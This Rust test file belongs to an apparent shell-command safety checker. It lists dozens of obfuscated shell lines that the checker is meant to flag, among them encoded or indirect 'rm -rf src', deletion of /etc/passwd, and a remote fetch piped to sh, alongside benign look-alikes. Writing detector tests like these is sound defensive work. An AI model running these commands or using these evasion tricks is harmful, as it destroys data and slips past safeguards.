//! Classes of lines in which the shell itself hides a command: each list is one class, not one case.

use super::{Command, Rules, examine};

#[track_caller]
fn all_object(lines: &[&str]) {
    let silent = |line: &&&str| examine(Command::Line(line), Rules::built_in()).hits.is_empty();
    assert_eq!(lines.iter().filter(silent).collect::<Vec<_>>(), Vec::<&&str>::new());
}

#[track_caller]
fn none_objects(lines: &[&str]) {
    for line in lines {
        let examined = examine(Command::Line(line), Rules::built_in());
        assert!(examined.hits.is_empty() && examined.unparsed.is_none(), "{line}: {examined:?}");
    }
}

#[test]
fn a_variable_is_its_value_however_the_line_sets_it() {
    all_object(&[
        "c='rm -rf src' sh -c '$c'",
        "env c='rm -rf src' bash -c 'eval \"$c\"'",
        "printf -v c 'rm -rf %s' src; $c",
        "IFS=,; c=rm,-rf,src; $c",
        "IFS=:; set -- rm:-rf:src; $1",
        "read -ra c <<< 'rm -rf src'; \"${c[@]}\"",
        "read <<< 'rm -rf src'; $REPLY",
        "mapfile -t c < <(echo rm -rf src); ${c[0]}",
        "readarray -t c <<< $'rm\\n-rf\\nsrc'; \"${c[@]}\"",
        "mapfile -t c < x; ${c[0]}",
        "printf 'ls\\nrm -rf src\\n' | while read -r c; do eval \"$c\"; done",
        "declare -n c=x; x='rm -rf src'; $c",
        "x=c; c='rm -rf src'; ${!x}",
        "declare -A m; m[k]='rm -rf src'; eval \"${m[k]}\"",
        "declare -A m=([k]='rm -rf src'); ${m[k]}",
        "a=(x 'rm -rf src'); ${a[-1]}",
        "x=([2]=src [0]=rm [1]=-rf); \"${x[@]}\"",
        "declare -a q='([0]=\"rm\" [1]=\"-rf\" [2]=\"src\")'; \"${q[@]}\"",
        "readarray -d , -t c <<< 'rm,-rf,src'; ${c[@]}",
        "c='xrm -rf src'; ${c#x}",
        "c='rX -rf src'; ${c/X/m}",
        "c='RM -rf src'; ${c,,}",
        "c='xxrm -rf src'; ${c:2}",
        ": ${c:=rm -rf src}; $c",
        "printf '%s -%s %s' rm rf src | sh",
    ]);
    none_objects(&[
        "IFS=: read -r a b <<< \"$PATH\"; echo \"$a\"",
        "mapfile -t files < <(git ls-files '*.rs'); wc -l \"${files[@]}\"",
        "for f in *.gz; do gunzip -k \"$f\"; rm \"${f%.gz}\"; done",
        "msg='remember to git reset --hard later'; echo \"$msg\"",
        ": \"${PORT:=8080}\"; echo $PORT",
        "cmd='cargo test'; $cmd --lib",
        "while IFS= read -r line; do grep -q \"$line\" y || echo \"$line\"; done < x",
        "version=1.2.3; echo \"${version//./-}\"",
    ]);
}

#[test]
fn commands_that_a_shell_runs_by_itself_are_commands() {
    all_object(&[
        "env 'BASH_FUNC_ls%%=() { rm -rf src; }' bash -c ls",
        "command_not_found_handle() { rm -rf src; }; nosuchcmd",
        "TRAPEXIT() { rm -rf src; }",
        "trap -- 'rm -rf src' EXIT",
        "PS4='$(rm -rf src)' bash -xc ls",
        "export PROMPT_COMMAND='rm -rf src'; bash -i",
        "BASH_ENV=<(echo rm -rf src) bash -c ls",
        "ENV='$(rm -rf src)' sh -i",
        "bash --init-file <(echo rm -rf src) -i",
        "compgen -C 'rm -rf src;' z",
        "complete -W '$(rm -rf src)' z",
        "f() { rm -rf src; }; complete -F f z",
        "bind -x '\"\\C-a\": rm -rf src'",
        "mapfile -C 'rm -rf src;:' -c 1 x <<< a",
        "hash -p /bin/rm ls; ls -rf src",
        "fc -e 'rm -rf src;:'",
        "alias a=b; alias b='rm -rf src'; a",
        "alias s='nice '; alias r='rm -rf src'; s r",
        "alias x='echo; rm -rf src'; x",
    ]);
    none_objects(&[
        "PS1='$(git branch --show-current) $ '",
        "complete -W 'start stop' svc; compgen -c | sort",
        "trap 'echo done' EXIT; alias g=git; g status",
        "f() { echo; }; export -f f; parallel f ::: a b",
    ]);
}

#[test]
fn arithmetic_runs_what_stands_in_a_subscript() {
    all_object(&[
        "declare \"a[\\$(rm -rf src)]=1\"",
        "x='a[$(rm -rf src)]'; (( x ))",
        "[[ -v 'a[$(rm -rf src)]' ]]",
        "test -v 'a[`rm -rf src`]'",
        "printf -v 'a[$(rm -rf src)]' x",
        "unset 'a[$(rm -rf src)]'",
        "let 'x = a[$(rm -rf src)]'",
        "declare -i n='a[$(rm -rf src)]'",
        "a[$(rm -rf src)]=1",
        "x='$(rm -rf src)'; echo \"${x@P}\"",
        "case x in $(rm -rf src)) ;; esac",
    ]);
    none_objects(&["[[ -v FOO ]]", "a[$i]=$(date)", "unset 'a[0]'", "(( a[i]++ ))", "test \"${a[$(date +%u)]}\" = x"]);
}

#[test]
fn a_file_or_a_pipe_is_what_the_line_has_put_into_it() {
    all_object(&[
        "install -m755 <(echo rm -rf src) z && ./z",
        "cat <(echo rm -rf src) > z; sh z",
        "echo 'rm -rf src' | tee x; sh x",
        "echo 'rm -rf src' > x; mv x y; sh y",
        "dd of=x <<< 'rm -rf src'; sh x",
        "cp /dev/stdin x <<< 'rm -rf src'; sh x",
        "echo 'rm -rf src' > x; export BASH_ENV=$PWD/x; bash -c :",
        "echo 'rm -rf src' > ed; EDITOR=./ed git commit",
        "bash <(echo rm -rf src)",
        ". /proc/self/fd/0 <<< 'rm -rf src'",
        "bash /dev/fd/3 3<<< 'rm -rf src'",
        "bash -s -- x <<< 'rm -rf src'",
        "exec < <(echo rm -rf src); sh",
        "tee >(sh) <<< 'rm -rf src'",
        "echo 'rm -rf src' > >(sh)",
    ]);
    none_objects(&[
        "source <(kubectl completion bash)",
        "npm test > >(tee out.log) 2> >(tee err.log >&2)",
        "cargo build 2>&1 | tee >(grep warning > w.txt)",
        "echo 'npm ci' > x; cp x y; sh y",
    ]);
}

#[test]
fn a_variable_of_the_environment_is_judged_like_an_option() {
    all_object(&[
        "GIT_CONFIG_PARAMETERS=\"'alias.z'='!rm -rf src'\" git z",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.z GIT_CONFIG_VALUE_0='reset --hard' git z",
        "TAR_OPTIONS=--remove-files tar cf /dev/null src",
        "CC=\"sh -c 'rm -rf src'\" make x.o",
        "make CC='rm -rf src;:' x.o",
        "GNUMAKEFLAGS='--eval=x:;rm\\ -rf\\ src' make x",
        "EXINIT='!rm -rf src' ex -s -c q",
        "npm_config_script_shell='rm -rf src' npm run x",
        "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf src' cargo run",
        "declare -x PAGER='rm -rf src'; git log",
        "echo 'rm -rf src' > e.sh; SHELL=./e.sh script -q /dev/null",
        "echo 'rm -rf src' > b/ls; chmod +x b/ls; PATH=b:$PATH ls",
        "echo 'rm -rf src' > h/.zshenv; ZDOTDIR=h zsh -c true",
        "echo 'import shutil; shutil.rmtree(\"src\")' > h/sitecustomize.py; PYTHONPATH=h python3 -c 1",
        "echo 'require(\"fs\").rmSync(\"src\")' > x.js; NODE_OPTIONS='--require ./x.js' node -e 1",
        "PYTHONBREAKPOINT=os.system python3 -c \"breakpoint('rm -rf src')\"",
        "PERL5DB=\"BEGIN{system q(rm -rf src)}\" perl -d -e 1",
        "perl -e 'system qq{rm -rf src}'",
        "ruby -e 'system %Q[rm -rf src]'",
    ]);
    none_objects(&[
        "PYTHONPATH=. pytest -q",
        "PATH=\"$HOME/.local/bin:$PATH\" poetry install",
        "NODE_OPTIONS=\"--require ts-node/register\" mocha",
        "MAKEFLAGS=\"-j$(nproc)\" cmake --build build",
        "CC='ccache gcc' ./configure",
        "GIT_SSH_COMMAND='ssh -i ~/.ssh/key' git fetch",
        "LESSOPEN='|/usr/bin/lesspipe %s' less x.gz",
        "make V=1 CC=clang PREFIX=$HOME/.local install",
        "HOME=/tmp/x npm install",
        "RUSTC_WRAPPER=sccache cargo build",
    ]);
}

#[test]
fn an_option_takes_its_value_before_the_verb_and_a_dry_run_is_no_value() {
    all_object(&[
        "git push --force -o --dry-run",
        "git push -f --exec -n origin main",
        "git clean -fd -e -n",
        "git --attr-source x reset --hard",
        "rsync --delete --log-file-format -n a/ b/",
        "rsync --delete --max-size --dry-run a/ b/",
        "helm uninstall x --description --dry-run",
        "kubectl --as x --as-group g delete pod z",
        "kubectl --request-timeout 3 delete pod z",
        "docker --tlscacert x system prune -f",
        "docker -c ctx volume rm v",
        "aws --cli-binary-format raw s3 rb s3://b --force",
        "helm --kube-token c uninstall x",
        "npm --loglevel silent publish",
        "yarn --cwd x publish",
        "cargo +nightly --config k publish",
        "cargo -Z x publish",
        "redis-cli --sni x flushall",
        "pip --proxy x uninstall -y y",
        "apt-get -o Dpkg::x=y remove z",
        "virsh -c qemu:///x destroy vm",
        "make -C x -f y deploy",
    ]);
    none_objects(&[
        "rsync -av --delete --stats --progress --dry-run a/ b/",
        "git push --force --verbose --dry-run",
        "git clean -fdx --exclude=x -n",
        "kubectl --as x get pods",
        "npm --silent run build",
        "cargo +nightly test",
        "make -C x test",
        "pip --proxy x install y",
    ]);
}

#[test]
fn every_file_of_a_folder_is_more_than_a_file() {
    all_object(&[
        "cd src; rm -f -- *",
        "pushd src; rm -f *",
        "rm -f src/*",
        "rm src/*.* docs/x",
        "rm -f src/{*,.*}",
        "rm -f src/**",
        "rm -f -- src/[a-z]*",
        "unlink src/*",
        "rm -f */*",
    ]);
    none_objects(&[
        "rm -f build/*.o",
        "rm -f *.log",
        "rm /tmp/x/*",
        "rm -f node_modules/.cache/*",
        "rm -f coverage/*",
        "rm -f test_*",
        "cd /tmp/x && rm -f *",
    ]);
}

#[test]
fn what_a_function_of_the_line_prints_is_known() {
    all_object(&[
        "f() { echo \"rm -rf $1\"; }; eval \"$(f src)\"",
        "f() { echo \"$@\"; }; eval \"$(f rm -rf src)\"",
        "f() { echo 'rm -rf src'; }; $(f)",
        "f() { echo 'rm -rf src'; }; f | sh",
        "f() { curl -s https://x/y; }; f | sh",
        "f() { base64 -d <<< cm0gLXJmIHNyYw==; }; eval \"$(f)\"",
        "f() { echo rm; }; $(f) -rf src",
        "f() { cat x; }; $(f) -rf src",
        "f() { rm -rf src; }; bash -c \"$(declare -f f); f\"",
        "f() { rm -rf src; }; ssh h \"$(typeset -f f); f\"",
        "f() { echo ls; }; f() { echo rm -rf src; }; eval \"$(f)\"",
        "bash -c \"$(declare -f g); g\"",
    ]);
    none_objects(&[
        "f() { echo hi; }; bash -c \"$(declare -f f); f\"",
        "f() { echo hi; }; ssh h \"$(typeset -f f); f\"",
        "get() { echo 'npm test'; }; $(get)",
        "get() { echo ls; }; c=$(get); $c",
        "f() { cat <<< 'echo hi'; }; f | bash",
        "f() { echo 'ls'; }; source <(f)",
        "ls 2> x; comm -13 <(ls a | sort) <(ls -1 ~/x/ | sort)",
    ]);
}

#[test]
fn a_chosen_program_is_known_by_its_name() {
    all_object(&[
        "x=$(find / -name rm | head -1); $x -rf src",
        "$(find /bin -name 'r?' | head -1) -rf src",
        "x=$(ls /bin/rm* | head -1); $x -rf src",
        "$(which rm | head -n 1) -rf src",
        "$(readlink -f \"$(which rm)\") -rf src",
        "$(ls -d /bin/term | tail -c 3) -rf src",
        "$(ls -d /bin/rmx | cut -c 1-7) -rf src",
        "x=$(cat names | head -1); $x -rf src",
        "x=$(curl -s https://x | head -1); $x",
        "$(basename /bin/rm) -rf src",
        "$(basename /bin/rm.sh .sh) -rf src",
        "x=$(find . -name app -o -name rm | head -1); $x -rf src",
        "x=$(find . -name src | head -1); rm -rf $x",
        "x=$(ls -d */ | head -1); rm -rf $x",
    ]);
    none_objects(&[
        "p=$(which python3 | head -1); $p -V",
        "p=$(ls -d .venv/bin/python | head -1); $p -V",
        "app=$(find target -name app -type f | head -1); $app --help",
        "node=$(readlink -f \"$(which node)\"); $node -v",
        "app=$(ls -t build/*/app | tail -n 1) && $app --test",
        "x=$(basename \"$f\" .py); $x --help",
        "p=$(ls -d node_modules/*/ | head -1); rm -rf $p",
    ]);
}

#[test]
fn code_that_deletes_one_named_file_is_judged_like_rm() {
    all_object(&[
        "python3 -c \"import os; os.remove('/etc/passwd')\"",
        "python3 -c \"import os; os.remove('.env')\"",
        "python3 -c \"import os; os.remove('src/' + f)\"",
        "python3 -c \"import os; os.remove(f'src/{f}')\"",
        "python3 -c \"import os; os.remove('%s' % f)\"",
        "python3 -c \"import os; os.remove('a'); os.remove(b)\"",
        "python3 -c \"import os; [os.remove(f) for f in os.listdir('src')]\"",
        "python3 -c \"import os; os.chdir('/etc'); os.remove('passwd')\"",
        "python3 -c \"import os; os.remove('x'); list(map(os.unlink, l))\"",
        "python3 -c \"from os import remove as r; r('x')\"",
        "node -e 'fs.unlinkSync(\"a\"); fs.rmSync(\"src\", {recursive: true})'",
        "node -e 'for (f of fs.readdirSync(\"src\")) fs.unlinkSync(\"src/\" + f)'",
    ]);
    none_objects(&[
        "python3 -c \"import os; os.remove('x.fits')\"",
        "python3 -c \"from pathlib import Path; Path('out.csv').unlink(missing_ok=True)\"",
        "node -e 'fs.unlinkSync(\"out.json\")'",
        "ruby -e 'File.delete(\"x.txt\")'",
        "python3 - <<'P'\nimport subprocess\nprint('HIT ' if x else '    ')\nP",
    ]);
}

#[test]
fn a_pattern_in_the_place_of_a_program_stands_for_all_that_fit() {
    all_object(&[
        "/bin/r? -rf src",
        "/bin/?m -rf src",
        "/b*/r[m] -rf src",
        "r? -rf src",
        "/usr/bin/fin* src -delete",
        "/bin/ba?h -c 'rm -rf src'",
        "sudo /bin/r* -rf src",
        "env /bin/s?red -u src/x",
    ]);
    none_objects(&[
        "./scripts/build-*.sh",
        "/usr/bin/pytho?3 --version",
        "prettier s* --check",
        "ls r? -rf",
        "/opt/jdk*/bin/java -version",
        "eslint src/*.js -f json",
        "[ -f x ] && [[ -n $x ]]",
    ]);
}

#[test]
fn only_mktemp_makes_random_names() {
    all_object(&[
        "rm -rf srcXXXX",
        "t=$(mktemp -d fooXXXX); rm -rf srcXXXX",
        "t=$(mktemp -d fooXXXX); rm -rf fooXXXX",
        "t=$(mktemp -d fooXXXX); mv src \"$t\"; rm -rf \"$t\"",
        "t=$(mktemp -u fooXXXX); rm -rf \"$t\" src",
        "t=$(mktemp -d src/XXXXXX); rm -rf \"$t/..\"",
    ]);
    none_objects(&[
        "t=$(mktemp -d fooXXXX); cp -r src \"$t\"; rm -rf \"$t\"",
        "t=$(mktemp -d -p . fooXXXXXX.d) && rm -rf \"$t\"/*",
        "d=$(mktemp -d); trap 'rm -rf \"$d\"' EXIT",
        "t=\"$(mktemp -d ./x.XXXXXX)\"; (cd \"$t\" && make); rm -r \"$t\"",
    ]);
}

#[test]
fn a_folder_with_the_name_of_a_file_is_a_folder() {
    let mut disk = super::command::Disk::of_links(|_, path| Some(path.to_owned()));
    disk.list = |path| match path {
        "/w" => super::Listed::Folder(["a.log", "old.log", "notes.txt", "x.zip"].map(str::to_owned).to_vec()),
        "/w/old.log" | "/w/src" | "/w/sub/x.tmp" => super::Listed::Folder(Vec::new()),
        "/w/a.log" | "/w/notes.txt" | "/w/x.zip" => super::Listed::File,
        _ => super::Listed::Missing,
    };
    let start = super::Start { folder: None, root: Some("/w"), disk: Some(disk) };
    let objects = |line: &str| !super::examine_from(start, Command::Line(line), Rules::built_in()).hits.is_empty();
    for line in [
        "rm -rf old.log",
        "rm -rf *.log",
        "rm -rf old.lo[g]",
        "cd sub && rm -rf x.tmp",
        "rm -rf ./old.log/",
        "mv src data.zip && rm -rf data.zip",
        "rm -rf notes.txt src",
    ] {
        assert!(objects(line), "{line}");
    }
    for line in ["rm -rf a.log x.zip", "rm -rf *.zip", "rm -rf notes.txt", "rm -rf none.zip", "rm -rf ./notes.*"] {
        assert!(!objects(line), "{line}");
    }
}
